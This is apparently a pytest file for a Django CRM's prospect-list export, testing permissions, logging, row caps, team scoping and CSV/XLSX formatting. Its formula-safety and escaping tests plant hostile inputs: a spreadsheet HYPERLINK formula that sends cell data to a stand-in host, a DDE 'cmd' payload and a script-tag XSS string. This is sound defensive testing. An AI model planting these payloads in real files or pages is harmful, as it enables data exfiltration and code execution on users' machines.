"""The export of the visible list: team leads and admins only, formula-safe, one log row each."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone

from org.access import purge_expired_access_log
from org.models import AccessLog, ListExport
from prospects.models import Prospect
from tests import factories
from tests.crm.hostile import Page

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


@pytest.fixture
def lead(rep):
    """A team lead of the rep's team."""
    from org.accounts import team_of

    return factories.user(role="team_lead", username="lead", team=team_of(rep))


def client_of(user) -> Client:
    return factories.log_in(Client(), user)


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    assert text.startswith("\ufeff"), "no byte-order mark: spreadsheets would misread the accents"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_rep_without_the_permission_gets_403_and_sees_no_export_link(rep):
    factories.prospect(by=rep)
    browser = client_of(rep)

    page = browser.get("/prospects/")
    refused = [browser.get(f"/prospects/export/{fmt}/") for fmt in ("csv", "xlsx")]

    assert page.status_code == 200 and 'id="list-export"' not in page.content.decode()
    assert [r.status_code for r in refused] == [403, 403]
    assert not ListExport.objects.exists()


def test_a_team_lead_exports_the_filtered_list_as_csv_with_one_log_row(rep, lead):
    factories.many_prospects(by=rep, count=30)
    page = client_of(lead).get("/prospects/", {"q": "Jean1"})
    assert 'id="list-export"' in page.content.decode()
    assert "/prospects/export/csv/?q=Jean1" in page.content.decode()

    response = client_of(lead).get("/prospects/export/csv/", {"q": "Jean1"})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="prospects-')
    header, *rows = read_csv(response)
    assert header[:3] == ["Name", "Company", "Job title"]
    assert sorted(row[0] for row in rows) == sorted(f"Jean{n} Dupont" for n in [1, *range(10, 20)])
    assert all("@" not in cell for row in rows for cell in row), "the list export holds no address"
    logged = ListExport.objects.get()
    assert (logged.user, logged.rows, logged.format, logged.filters) == (lead, 11, "csv", {"q": "Jean1"})
    assert not AccessLog.objects.exists()


def test_ten_thousand_rows_are_one_log_row_with_the_filter_and_the_count(rep, admin_user):
    factories.many_prospects(by=rep, count=10_000)

    response = client_of(admin_user).get("/prospects/export/xlsx/", {"source_type": "business_card"})

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows(min_row=2)) == 10_000
    logged = ListExport.objects.get()
    assert (logged.rows, logged.format, logged.filters) == (10_000, "xlsx", {"source_type": "business_card"})
    assert AccessLog.objects.count() == 0


def test_every_cell_from_user_text_is_written_as_text_in_both_formats(rep, lead):
    factories.prospect(
        by=rep, first_name=PLANTED, last_name="@SUM(1)", job_title="+cmd|' /C calc'!A0", email="x@acme.fr"
    )

    csv_rows = read_csv(client_of(lead).get("/prospects/export/csv/"))
    book = openpyxl.load_workbook(io.BytesIO(client_of(lead).get("/prospects/export/xlsx/").content))

    for row in csv_rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert cells[0].value.startswith("'=HYPERLINK")


def test_a_filter_above_the_cap_is_refused_before_any_row_is_read(rep, lead, settings):
    settings.LOYAL_LIST_EXPORT_MAX_ROWS = 5
    factories.many_prospects(by=rep, count=6)

    response = client_of(lead).get("/prospects/export/csv/", follow=True)

    assert response.redirect_chain[-1][0].startswith("/prospects/")
    assert "more than 5 prospects" in response.content.decode()
    assert not ListExport.objects.exists()


def test_an_invalid_filter_exports_nothing_rather_than_the_whole_base(rep, lead):
    factories.many_prospects(by=rep, count=3)

    response = client_of(lead).get("/prospects/export/csv/", {"audience": "nobody"}, follow=True)

    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    assert "Nothing was exported" in response.content.decode()
    assert "Audience" in response.content.decode()
    assert not ListExport.objects.exists()


def test_a_team_lead_exports_only_their_teams_prospects(rep, lead):
    factories.prospect(by=rep, first_name="Ours")
    stranger = factories.user(role="sales", username="south", team=factories.team("South"))
    factories.prospect(by=stranger, first_name="Theirs", email="theirs@south.fr")

    names = [row[0] for row in read_csv(client_of(lead).get("/prospects/export/csv/"))[1:]]

    assert [name.split()[0] for name in names] == ["Ours"]


def test_the_dpo_sees_each_export_with_its_filter_in_words_and_a_rep_does_not(rep, lead, dpo):
    factories.many_prospects(by=rep, count=4)
    hostile = "<script>alert(1)</script>"
    client_of(lead).get("/prospects/export/csv/", {"q": "Jean", "owner": rep.pk})
    ListExport.objects.create(user=lead, filters={"q": hostile}, rows=0, format="csv")

    page = client_of(dpo).get("/registry/list-exports/")
    html = page.content.decode()

    assert page.status_code == 200
    read = Page(html)
    assert read.shows("Search: Jean; Owner: Rep Test") and read.shows("Lead Test")
    assert hostile not in html and read.shows(hostile)
    assert client_of(rep).get("/registry/list-exports/").status_code == 403
    assert client_of(dpo).get("/prospects/export/csv/").status_code == 403


def test_export_log_rows_go_with_the_access_log_after_its_retention(rep, lead):
    old = ListExport.objects.create(user=lead, filters={}, rows=1, format="csv")
    ListExport.objects.filter(pk=old.pk).update(at=timezone.now() - timedelta(days=400))
    recent = ListExport.objects.create(user=lead, filters={}, rows=2, format="csv")

    purge_expired_access_log()

    assert list(ListExport.objects.values_list("pk", flat=True)) == [recent.pk]


def test_the_export_leaves_the_prospects_as_they_were(rep, lead):
    factories.many_prospects(by=rep, count=3)
    before = list(Prospect.objects.order_by("pk").values_list("pk", "updated_at", "retention_until"))

    client_of(lead).get("/prospects/export/xlsx/")

    assert list(Prospect.objects.order_by("pk").values_list("pk", "updated_at", "retention_until")) == before


def test_the_french_list_export_is_separated_by_semicolons_with_a_byte_order_mark(db):
    from django.utils import translation

    from prospects import list_export

    with translation.override("fr"):
        content = list_export._csv([["Anne", "Acme; Paris"]])

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert content.startswith(b"\xef\xbb\xbf")
    assert len(rows[0]) > 1 and "," not in "".join(rows[0][:2])  # the header split on ';'
    assert rows[1] == ["Anne", "Acme; Paris"]
